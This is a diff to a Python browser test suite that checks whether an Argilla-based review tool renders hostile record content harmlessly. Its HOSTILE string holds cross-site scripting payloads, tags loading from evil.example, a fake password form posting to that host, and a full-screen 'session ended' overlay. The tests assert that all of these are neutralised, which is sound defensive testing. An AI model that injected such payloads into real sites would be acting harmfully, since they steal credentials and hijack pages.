@@ -86,6 +86,7 @@ def test_a_typical_row_is_reviewed_by_keyboard_alone(
         page.keyboard.press("Escape")
         submitted(page)
         assert reviewer.foreign == []
+        assert not [said for said in reviewer.complaints if "Content Security Policy" in said]
     workflow.pull(store, run, where)
     said = list(judging.judged_rows(store, run))
     assert sorted(judged.decision or "" for judged in said) == ["approve", "approve", "reject"]
@@ -106,6 +107,16 @@ HOSTILE = """Look: <script>window.hacked = 1</script><img src=x onerror="window.
 <img src="http://evil.example/pixel.png"> ![](http://evil.example/md.png) <a href="javascript:window.hacked=3">a</a>
 <object data="http://evil.example/o"></object><embed src="http://evil.example/e"><iframe src="http://evil.example/f"></iframe>
 <svg onload="window.hacked = 4"></svg> <style>@import "http://evil.example/s.css"; body { display: none }</style> =1+1 {{7*7}}
+<style>body { display: none }</style><form action="http://evil.example/f"><input name="password"></form>
+<div style="position: fixed; inset: 0; z-index: 99999; background: white">Your session has ended.</div>
+
+Use `<b>` for bold.
+
+And $x^2$, where 1 < 2.
+
+```html
+<p class="a">It is <b>bold</b>.</p>
+```
 the end"""
 
 
@@ -113,10 +124,16 @@ def test_a_hostile_record_is_shown_and_does_nothing(
     store: Store, where: Argilla, browser: Browser, argilla: ArgillaServer
 ) -> None:
     run = with_run(
-        store, 1, made_of(rating={"aspects": ["helpfulness"]}), rate=rated, name=f"hostile-{random.randrange(10**9)}"
+        store,
+        1,
+        made_of(rating={"aspects": ["helpfulness"]}, review={"guidelines": HOSTILE}),
+        rate=rated,
+        name=f"hostile-{random.randrange(10**9)}",
     )
     edit(store, f"{run.id}-000000-0", HOSTILE)
     address = workflow.push(store, run, where, lambda done, total: None).to.url
+    with Reviewer(argilla) as owner:
+        assert "<style" not in owner.dataset(run.id)["guidelines"]
     with person(browser) as reviewer:
         page = reviewer.page
         sign_in(page, address, argilla.username, argilla.password)
@@ -125,6 +142,32 @@ def test_a_hostile_record_is_shown_and_does_nothing(
         page.wait_for_timeout(1000)
         assert page.evaluate("window.hacked") is None
         assert reviewer.foreign == []  # no request was even begun: the server's pages forbid it
+        shown = page.locator(".markdown-render", has_text="the end").first
+        assert shown.locator("style, form, input, object, embed, iframe, [style*=fixed]").count() == 0
+        assert shown.locator("pre code").inner_text().strip() == '<p class="a">It is <b>bold</b>.</p>'
+        assert shown.locator("p code").inner_text() == "<b>" and shown.locator(".katex").count() == 1
+        expect(page.get_by_text("Your session has ended.").first).not_to_have_css("position", "fixed")
+        submitted(page, "1")
+    workflow.pull(store, run, where)
+    (said,) = judging.judged_rows(store, run)
+    assert said.decision == "approve" and said.corrected_response() is None  # what was left as it was is no correction
+
+
+def test_what_others_send_to_the_embedded_argilla_hides_nothing(
+    store: Store, where: Argilla, browser: Browser, argilla: ArgillaServer
+) -> None:
+    run, address = sent(store, where, 1)
+    hidden = "<p>the end</p><style>body { display: none }</style>"
+    with Reviewer(argilla) as owner:
+        (record,) = owner.records(run.id)
+        answer = owner.http.patch(
+            f"/api/v1/records/{record['id']}", json={"fields": {**record["fields"], "response-1": hidden}}
+        )
+        assert answer.status_code == 200, answer.text
+    with person(browser) as reviewer:
+        sign_in(reviewer.page, address, argilla.username, argilla.password)
+        expect(reviewer.page.get_by_text("the end")).to_be_visible()
+        assert any("style-src-elem" in complaint for complaint in reviewer.complaints)
 
 
 KEYS = {"1": "approve", "2": "reject", "3": "unsure"}
